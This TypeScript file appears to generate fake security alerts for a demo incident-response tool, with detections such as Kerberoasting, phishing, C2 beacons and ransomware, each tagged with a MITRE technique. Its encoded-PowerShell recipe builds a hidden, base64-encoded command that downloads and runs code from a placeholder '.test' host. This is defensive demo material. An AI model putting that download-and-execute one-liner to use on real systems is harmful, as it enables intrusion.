import type { Random } from './random.js';
import { STAFF } from './tenants.js';
import type { TemplateKey, Tenant } from './tenants.js';

/** One of a tenant's staff, with the account and the workplace. */
export interface Victim {
  readonly name: string;
  readonly email: string;
  readonly account: string;
  readonly host: string;
  readonly address: string;
}

/** What an attacker uses; a campaign uses the same again and again. */
export interface Attacker {
  readonly address: string;
  readonly address6: string;
  /** Ends in `.test` (RFC 6761), as it may never resolve. */
  readonly domain: string;
  readonly sender: string;
  readonly sha256: string;
  /** What comes with a mail. */
  readonly file: string;
  /** What runs on a host. */
  readonly program: string;
}

/** Where and by whom something happens. */
export interface Scene {
  readonly tenant: Tenant;
  readonly victim: Victim;
  readonly attacker: Attacker;
  readonly server: string;
}

export interface DemoObservable {
  readonly dataType: string;
  readonly data: string;
  readonly ioc?: boolean;
  /** Of no use for finding what is related, being everywhere. */
  readonly ignoreSimilarity?: boolean;
}

/** What a detection says. */
export interface Finding {
  readonly title: string;
  readonly description: string;
  readonly observables: readonly DemoObservable[];
}

/** A detection as tools of the field bring it. */
export interface Recipe {
  readonly key: string;
  readonly source: string;
  readonly type: string;
  /** How often it comes up, compared with the others. */
  readonly weight: number;
  /** How often it has each severity, 1 to 4. */
  readonly severities: readonly [number, number, number, number];
  readonly technique: string;
  readonly tactic: string;
  readonly tags: readonly string[];
  readonly template: TemplateKey;
  /** What a case about it is called. */
  readonly incident: (scene: Scene) => string;
  readonly find: (random: Random, scene: Scene) => Finding;
}

const ip = (data: string): DemoObservable => ({ dataType: 'ip', data });
const host = (data: string): DemoObservable => ({ dataType: 'hostname', data });
const mail = (data: string): DemoObservable => ({ dataType: 'mail', data });
const bad = (dataType: string, data: string): DemoObservable => ({ dataType, data, ioc: true });

const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36';

const browser: DemoObservable = { dataType: 'user-agent', data: BROWSER, ignoreSimilarity: true };

/** A list of facts under a sentence, in Markdown. */
function told(sentence: string, facts: Readonly<Record<string, string | number>>): string {
  const rows = Object.entries(facts).map(([name, value]) => `| ${name} | \`${value}\` |`);
  return [sentence, '', '| Field | Value |', '| --- | --- |', ...rows].join('\n');
}

export const RECIPES: readonly Recipe[] = [
  {
    key: 'encoded-powershell',
    source: 'EDR',
    type: 'process',
    weight: 11,
    severities: [1, 5, 3, 0.3],
    technique: 'T1059.001',
    tactic: 'execution',
    tags: ['powershell', 'endpoint'],
    template: 'malware',
    incident: ({ victim }) => `Encoded PowerShell and download on ${victim.host}`,
    find(random, { victim, attacker }) {
      const parent = random.pick(['WINWORD.EXE', 'explorer.exe', 'mshta.exe', 'cmd.exe']);
      const command = `powershell.exe -NoP -W Hidden -Enc ${Buffer.from(`IEX(iwr https://${attacker.domain}/a)`, 'utf16le').toString('base64')}`;
      return {
        title: `Encoded PowerShell command line on ${victim.host}`,
        description: told(
          'A hidden PowerShell was started with an encoded command that fetches code from the internet.',
          {
            Host: victim.host,
            Account: victim.account,
            'Parent process': parent,
            'Command line': command,
          },
        ),
        observables: [
          host(victim.host),
          ip(victim.address),
          bad('domain', attacker.domain),
          bad('hash', attacker.sha256),
          { dataType: 'other', data: command },
        ],
      };
    },
  },
  {
    key: 'kerberoasting',
    source: 'SIEM',
    type: 'authentication',
    weight: 4,
    severities: [0, 3, 5, 1],
    technique: 'T1558.003',
    tactic: 'credential-access',
    tags: ['active-directory', 'kerberos'],
    template: 'account',
    incident: ({ victim }) => `Kerberoasting from the account ${victim.account}`,
    find(random, { tenant, victim, server }) {
      const tickets = random.integer(14, 90);
      return {
        title: `Kerberoasting: ${tickets} unusual TGS requests by ${victim.account}`,
        description: told(
          'An account asked for far more service tickets than ever before, with RC4 encryption.',
          {
            Account: victim.account,
            'Client address': victim.address,
            'Domain controller': server,
            'Tickets in five minutes': tickets,
            'Ticket encryption': '0x17 (RC4-HMAC)',
          },
        ),
        observables: [
          host(victim.host),
          ip(victim.address),
          mail(victim.email),
          {
            dataType: 'fqdn',
            data: `${server}.corp.${tenant.domain}`.toLowerCase(),
            ignoreSimilarity: true,
          },
        ],
      };
    },
  },
  {
    key: 'impossible-travel',
    source: 'Identity provider',
    type: 'sign-in',
    weight: 14,
    severities: [3, 6, 2, 0.2],
    technique: 'T1078.004',
    tactic: 'initial-access',
    tags: ['identity', 'cloud'],
    template: 'account',
    incident: ({ victim }) => `Sign-in of ${victim.name} from two places at once`,
    find(random, { victim, attacker }) {
      const [here, there] = random.pick([
        ['Hamburg', 'Lagos'],
        ['Lisbon', 'Singapore'],
        ['Dublin', 'São Paulo'],
        ['Vienna', 'Toronto'],
      ] as const);
      const minutes = random.integer(7, 110);
      return {
        title: `Impossible travel sign-in of ${victim.email}`,
        description: told(`Signed in from ${here} and ${minutes} minutes later from ${there}.`, {
          Account: victim.email,
          'Second address': attacker.address,
          'Multi-factor': random.pick([
            'satisfied by claim in the token',
            'passed',
            'not required',
          ]),
          Application: random.pick(['Webmail', 'VPN', 'File sharing', 'Intranet']),
        }),
        observables: [
          mail(victim.email),
          bad('ip', attacker.address),
          bad('ip', attacker.address6),
          browser,
        ],
      };
    },
  },
  {
    key: 'credential-phishing',
    source: 'Mail gateway',
    type: 'phishing',
    weight: 20,
    severities: [3, 7, 3, 0.2],
    technique: 'T1566.002',
    tactic: 'initial-access',
    tags: ['mail', 'credentials'],
    template: 'phishing',
    incident: ({ attacker }) => `Credential harvesting with pages under ${attacker.domain}`,
    find(random, { tenant, victim, attacker }) {
      const subject = random.pick([
        'Your mailbox is almost full',
        'Payroll: confirm your bank details',
        'Voice message (0:42) from reception',
        'Document shared with you: Q4 planning',
      ]);
      const recipients = random.integer(1, 60);
      return {
        title: `Phishing: credential harvesting page behind "${subject}"`,
        description: told('A link in a delivered mail leads to a copy of the sign-in page.', {
          Subject: subject,
          From: attacker.sender,
          Recipients: recipients,
          Verdict: random.pick(['delivered, then removed', 'delivered', 'delivered, one click']),
        }),
        observables: [
          bad('mail', attacker.sender),
          { dataType: 'mail-subject', data: subject },
          bad('url', `https://${attacker.domain}/${tenant.key}/signin`),
          bad('domain', attacker.domain),
          mail(victim.email),
          bad('ip', attacker.address),
        ],
      };
    },
  },
  {
    key: 'macro-attachment',
    source: 'Mail gateway',
    type: 'malware',
    weight: 7,
    severities: [2, 5, 3, 0.3],
    technique: 'T1566.001',
    tactic: 'initial-access',
    tags: ['mail', 'attachment'],
    template: 'phishing',
    incident: ({ attacker }) => `Mails with the attachment ${attacker.file}`,
    find(random, { victim, attacker }) {
      return {
        title: `Malicious attachment ${attacker.file} to ${victim.email}`,
        description: told('The sandbox saw the attached document start a script.', {
          From: attacker.sender,
          To: victim.email,
          File: attacker.file,
          'SHA-256': attacker.sha256,
          'Sandbox score': `${random.integer(71, 100)}/100`,
        }),
        observables: [
          bad('mail', attacker.sender),
          mail(victim.email),
          bad('filename', attacker.file),
          bad('hash', attacker.sha256),
        ],
      };
    },
  },
  {
    key: 'c2-beacon',
    source: 'Network sensor',
    type: 'network',
    weight: 6,
    severities: [0, 2, 5, 2],
    technique: 'T1071.001',
    tactic: 'command-and-control',
    tags: ['beacon', 'network'],
    template: 'malware',
    incident: ({ victim, attacker }) => `Beacon from ${victim.host} to ${attacker.domain}`,
    find(random, { victim, attacker }) {
      const seconds = random.pick([45, 60, 90, 300]);
      return {
        title: `Cobalt Strike beacon to rare domain ${attacker.domain}`,
        description: told(
          'Regular small HTTPS requests to a domain that nobody else visits; the TLS fingerprint is that of a known framework.',
          {
            Host: victim.host,
            Destination: `${attacker.domain} (${attacker.address})`,
            Interval: `${seconds} s, jitter ${random.integer(5, 30)} %`,
            'First seen': `${random.integer(1, 9)} days ago`,
            JA3: random.hex(32),
          },
        ),
        observables: [
          host(victim.host),
          ip(victim.address),
          bad('domain', attacker.domain),
          bad('ip', attacker.address),
          bad('hash', attacker.sha256),
        ],
      };
    },
  },
  {
    key: 'public-bucket',
    source: 'Cloud posture',
    type: 'cloud',
    weight: 4,
    severities: [1, 3, 3, 0.5],
    technique: 'T1530',
    tactic: 'collection',
    tags: ['cloud', 'storage'],
    template: 'data',
    incident: ({ tenant }) => `Storage bucket of ${tenant.name} readable by everyone`,
    find(random, { tenant, victim, attacker }) {
      const bucket = `${tenant.hosts.toLowerCase()}-${random.pick(['exports', 'backups', 'reports', 'imaging', 'invoices'])}-${random.integer(1, 24)}`;
      return {
        title: `S3 bucket made public: ${bucket}`,
        description: told('The access policy of a storage bucket now allows everyone to read.', {
          Bucket: bucket,
          'Changed by': victim.email,
          Objects: random.integer(40, 90_000),
          'Read from outside': random.chance(0.3) ? attacker.address : 'nobody so far',
        }),
        observables: [
          { dataType: 'url', data: `https://${bucket}.storage.example/` },
          mail(victim.email),
          ip(attacker.address),
        ],
      };
    },
  },
  {
    key: 'rdp-brute-force',
    source: 'SIEM',
    type: 'authentication',
    weight: 10,
    severities: [4, 5, 2, 0.2],
    technique: 'T1110.001',
    tactic: 'credential-access',
    tags: ['rdp', 'brute-force'],
    template: 'account',
    incident: ({ server }) => `Password guessing over RDP on ${server}`,
    find(random, { server, attacker }) {
      const failures = random.integer(120, 9_000);
      return {
        title: `Brute force over RDP against ${server}`,
        description: told('Many failed logons from one address in ten minutes.', {
          Target: server,
          'Source address': attacker.address,
          'Failed logons': failures,
          'Accounts tried': random.integer(3, 240),
          'Successful logons': random.chance(0.08) ? 1 : 0,
        }),
        observables: [host(server), bad('ip', attacker.address), bad('ip', attacker.address6)],
      };
    },
  },
  {
    key: 'password-spraying',
    source: 'Identity provider',
    type: 'sign-in',
    weight: 5,
    severities: [2, 5, 3, 0.2],
    technique: 'T1110.003',
    tactic: 'credential-access',
    tags: ['identity', 'brute-force'],
    template: 'account',
    incident: ({ attacker }) => `Password spraying from ${attacker.address}`,
    find(random, { tenant, attacker, victim }) {
      const accounts = random.integer(40, 600);
      return {
        title: `Password spraying against ${accounts} accounts`,
        description: told(
          'One or two passwords each were tried against many accounts over a legacy protocol.',
          {
            'Source address': attacker.address,
            Accounts: accounts,
            Domain: tenant.domain,
            Protocol: random.pick(['IMAP', 'SMTP AUTH', 'POP3']),
          },
        ),
        observables: [
          bad('ip', attacker.address),
          bad('ip', attacker.address6),
          mail(victim.email),
        ],
      };
    },
  },
  {
    key: 'ransomware-canary',
    source: 'EDR',
    type: 'file',
    weight: 1,
    severities: [0, 0, 2, 5],
    technique: 'T1486',
    tactic: 'impact',
    tags: ['ransomware', 'endpoint'],
    template: 'malware',
    incident: ({ server }) => `Files encrypted on ${server}`,
    find(random, { server, victim, attacker }) {
      const extension = random.pick(['.locked', '.crypt8', '.qzx']);
      return {
        title: `Ransomware canary file changed on ${server}`,
        description: told('A decoy file that nobody uses was overwritten and renamed.', {
          Host: server,
          File: `D:\\Shares\\_canary\\budget.xlsx${extension}`,
          Process: attacker.program,
          Account: victim.account,
          'Files renamed in a minute': random.integer(12, 900),
        }),
        observables: [
          host(server),
          host(victim.host),
          bad('hash', attacker.sha256),
          bad('filename', attacker.program),
          bad('ip', attacker.address),
        ],
      };
    },
  },
  {
    key: 'mfa-fatigue',
    source: 'Identity provider',
    type: 'sign-in',
    weight: 6,
    severities: [1, 4, 4, 0.3],
    technique: 'T1621',
    tactic: 'credential-access',
    tags: ['identity', 'mfa'],
    template: 'account',
    incident: ({ victim }) => `MFA requests until ${victim.name} gave in`,
    find(random, { victim, attacker }) {
      const requests = random.integer(8, 45);
      return {
        title: `MFA fatigue: ${requests} push requests to ${victim.email}`,
        description: told('The right password, and then push requests one after the other.', {
          Account: victim.email,
          'Source address': attacker.address6,
          Requests: requests,
          Answer: random.pick(['denied', 'timed out', 'approved once', 'reported as fraud']),
        }),
        observables: [mail(victim.email), bad('ip', attacker.address6), browser],
      };
    },
  },
  {
    key: 'cloud-exfiltration',
    source: 'DLP',
    type: 'data-transfer',
    weight: 6,
    severities: [2, 5, 2, 0.3],
    technique: 'T1567.002',
    tactic: 'exfiltration',
    tags: ['exfiltration', 'cloud'],
    template: 'data',
    incident: ({ victim }) => `Upload of internal files by ${victim.name}`,
    find(random, { victim }) {
      const service = random.pick(['drop-files.test', 'big-transfer.test', 'cloud-box.test']);
      const gigabytes = (random.integer(8, 240) / 10).toFixed(1);
      return {
        title: `Data transfer to new cloud storage ${service}`,
        description: told(
          'A workplace sent far more than usual to a storage service that it never used before.',
          {
            Host: victim.host,
            Account: victim.account,
            Service: service,
            Volume: `${gigabytes} GB`,
            Classification: random.pick(['internal', 'confidential', 'none']),
          },
        ),
        observables: [
          host(victim.host),
          ip(victim.address),
          mail(victim.email),
          { dataType: 'domain', data: service },
        ],
      };
    },
  },
  {
    key: 'lsass-access',
    source: 'EDR',
    type: 'process',
    weight: 3,
    severities: [0, 2, 5, 2],
    technique: 'T1003.001',
    tactic: 'credential-access',
    tags: ['credentials', 'endpoint'],
    template: 'malware',
    incident: ({ victim }) => `Credential dumping on ${victim.host}`,
    find(random, { victim, attacker }) {
      return {
        title: `LSASS memory read by ${attacker.program} on ${victim.host}`,
        description: told(
          'A process opened the memory of LSASS with rights that only credential theft needs.',
          {
            Host: victim.host,
            Account: victim.account,
            Process: attacker.program,
            'Access mask': random.pick(['0x1010', '0x1410', '0x1FFFFF']),
            Signed: 'no',
          },
        ),
        observables: [
          host(victim.host),
          bad('filename', attacker.program),
          bad('hash', attacker.sha256),
        ],
      };
    },
  },
  {
    key: 'scheduled-task',
    source: 'EDR',
    type: 'process',
    weight: 7,
    severities: [4, 5, 1, 0],
    technique: 'T1053.005',
    tactic: 'persistence',
    tags: ['persistence', 'endpoint'],
    template: 'malware',
    incident: ({ victim }) => `Unknown scheduled task on ${victim.host}`,
    find(random, { victim, attacker }) {
      const name = random.pick([
        'OneDrive Updater',
        'GoogleUpdateCore',
        'SystemHealth',
        'PrintSpoolCheck',
      ]);
      return {
        title: `New scheduled task "${name}" on ${victim.host}`,
        description: told(
          'A task that runs at every logon was created by a process outside the software distribution.',
          {
            Host: victim.host,
            Task: name,
            Action: `C:\\ProgramData\\${attacker.program}`,
            Author: victim.account,
          },
        ),
        observables: [
          host(victim.host),
          bad('hash', attacker.sha256),
          { dataType: 'filename', data: attacker.program },
          {
            dataType: 'registry',
            data: `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\${name}`,
          },
        ],
      };
    },
  },
  {
    key: 'edr-disabled',
    source: 'EDR',
    type: 'tampering',
    weight: 4,
    severities: [1, 4, 4, 0.4],
    technique: 'T1685',
    tactic: 'defense-impairment',
    tags: ['tampering', 'endpoint'],
    template: 'malware',
    incident: ({ victim }) => `Protection switched off on ${victim.host}`,
    find(random, { victim }) {
      return {
        title: `Endpoint protection stopped on ${victim.host}`,
        description: told('The sensor reported its own stop and has been silent since.', {
          Host: victim.host,
          Account: victim.account,
          Service: random.pick(['SensorService', 'WinDefend', 'SysmonDrv']),
          'Stopped by': random.pick(['sc.exe stop', 'net stop', 'uninstaller', 'unknown driver']),
        }),
        observables: [host(victim.host), ip(victim.address)],
      };
    },
  },
  {
    key: 'network-scan',
    source: 'Network sensor',
    type: 'network',
    weight: 9,
    severities: [6, 4, 1, 0],
    technique: 'T1046',
    tactic: 'discovery',
    tags: ['scan', 'network'],
    template: 'malware',
    incident: ({ victim }) => `Scan of the server network from ${victim.host}`,
    find(random, { tenant, victim }) {
      const ports = random.pick(['445', '22, 3389', '1433, 3306, 5432', '104, 11112']);
      return {
        title: `Internal port scan from ${victim.host}`,
        description: told(
          'One workplace connected to many hosts of the server network in short order.',
          {
            Host: victim.host,
            Network: `10.${tenant.network}.8.0/22`,
            Hosts: random.integer(60, 900),
            Ports: ports,
          },
        ),
        observables: [host(victim.host), ip(victim.address)],
      };
    },
  },
  {
    key: 'web-shell',
    source: 'Web application firewall',
    type: 'web',
    weight: 5,
    severities: [2, 4, 3, 1],
    technique: 'T1190',
    tactic: 'initial-access',
    tags: ['web', 'exploit'],
    template: 'malware',
    incident: ({ tenant }) => `Exploit attempt against portal.${tenant.domain}`,
    find(random, { tenant, attacker }) {
      const path = random.pick([
        '/upload.aspx',
        '/cgi-bin/luci',
        '/api/jsonws/invoke',
        '/owa/auth/x.js',
      ]);
      return {
        title: `Exploit attempt on portal.${tenant.domain}`,
        description: told('A request that matches a known exploit was answered with 200.', {
          'Source address': attacker.address,
          Path: path,
          Rule: `94${random.integer(1_000, 4_999)}`,
          Answer: random.pick(['200', '200, 41 bytes', '302']),
        }),
        observables: [
          bad('ip', attacker.address),
          { dataType: 'fqdn', data: `portal.${tenant.domain}`, ignoreSimilarity: true },
          { dataType: 'uri_path', data: path },
        ],
      };
    },
  },
  {
    key: 'forwarding-rule',
    source: 'Cloud audit',
    type: 'mailbox',
    weight: 4,
    severities: [1, 5, 3, 0.1],
    technique: 'T1114.003',
    tactic: 'collection',
    tags: ['mail', 'identity'],
    template: 'account',
    incident: ({ victim }) => `Mail of ${victim.name} forwarded to the outside`,
    find(random, { victim, attacker }) {
      const words = random.pick(['invoice, payment', 'password, code', 'IBAN, transfer']);
      return {
        title: `Mailbox rule forwards mail of ${victim.email} outside`,
        description: told('A new inbox rule forwards what holds certain words and hides it.', {
          Mailbox: victim.email,
          'Forwards to': attacker.sender,
          Words: words,
          'Created from': attacker.address,
        }),
        observables: [
          mail(victim.email),
          bad('mail', attacker.sender),
          bad('ip', attacker.address),
        ],
      };
    },
  },
  {
    key: 'dns-tunnel',
    source: 'DNS resolver',
    type: 'network',
    weight: 3,
    severities: [2, 5, 2, 0.2],
    technique: 'T1071.004',
    tactic: 'command-and-control',
    tags: ['dns', 'network'],
    template: 'malware',
    incident: ({ victim, attacker }) => `DNS tunnel from ${victim.host} to ${attacker.domain}`,
    find(random, { victim, attacker }) {
      return {
        title: `DNS tunnelling to ${attacker.domain} from ${victim.host}`,
        description: told('Thousands of long, ever different names below one domain.', {
          Host: victim.host,
          Domain: attacker.domain,
          'Queries in an hour': random.integer(900, 20_000),
          Example: `${random.hex(40)}.${attacker.domain}`,
        }),
        observables: [host(victim.host), ip(victim.address), bad('domain', attacker.domain)],
      };
    },
  },
];

/** The networks that documentation may use (RFC 5737). */
const DOCUMENTATION = ['192.0.2', '198.51.100', '203.0.113'] as const;

export function makeAttacker(random: Random): Attacker {
  const words = [
    'update',
    'secure',
    'portal',
    'cdn',
    'login',
    'sync',
    'mail',
    'static',
    'docs',
    'billing',
  ];
  const domain = `${random.pick(words)}-${random.pick(words)}-${random.hex(4)}.test`;
  return {
    address: `${random.pick(DOCUMENTATION)}.${random.integer(1, 254)}`,
    address6: `2001:db8:${random.integer(1, 9_999)}::${random.integer(1, 9_999)}`,
    domain,
    sender: `${random.pick(['service', 'no-reply', 'accounts', 'hr', 'billing'])}@${domain}`,
    sha256: random.hex(64),
    file: random.pick(['invoice_4471.docm', 'rechnung.xlsm', 'setup_x64.msi', 'scan_0093.iso']),
    program: random.pick(['updater.exe', 'svch0st.exe', 'helper64.exe', 'onesync.exe']),
  };
}

export function makeScene(random: Random, tenant: Tenant, attacker = makeAttacker(random)): Scene {
  const place = random.integer(0, STAFF.length - 1);
  const [firstName, lastName] = STAFF[place] ?? ['', ''];
  const name = `${firstName} ${lastName}`;
  const account = `${firstName.charAt(0)}.${lastName}`.toLowerCase();
  const servers = ['DC01', 'DC02', 'FS01', 'SQL03', 'TS02', 'APP07'];
  return {
    tenant,
    attacker,
    victim: {
      name,
      account: `${tenant.hosts}\\${account}`,
      email: `${account}@${tenant.domain}`,
      host: `${tenant.hosts}-WS-${String(100 + place * 7)}`,
      address: `10.${tenant.network}.${16 + (place % 8)}.${20 + place * 3}`,
    },
    server: `${tenant.hosts}-${random.pick(servers)}`,
  };
}
